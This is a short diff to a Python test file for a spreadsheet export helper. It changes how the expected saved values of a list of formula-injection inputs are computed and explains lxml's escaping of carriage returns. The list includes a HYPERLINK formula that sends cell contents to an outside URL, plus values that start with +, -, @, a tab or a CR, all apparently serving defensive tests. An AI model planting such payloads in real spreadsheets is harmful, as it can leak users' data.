@@ -257,7 +257,9 @@ def test_names_are_cleaned_for_display():
 # --- The export helper ---------------------------------------------------------------------
 
 HOSTILE = ['=HYPERLINK("http://x"&B2,"Klik")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
-AS_SAVED = [v.replace("\r", "\n") for v in HOSTILE]  # XML stores a lone CR as a line feed
+# openpyxl writes through lxml (pinned in requirements.txt, pulled in by pyHanko), which escapes a
+# lone CR as &#13;, so every value, the CR included, reads back exactly as written.
+AS_SAVED = HOSTILE
 
 
 def saved(workbook) -> openpyxl.Workbook:
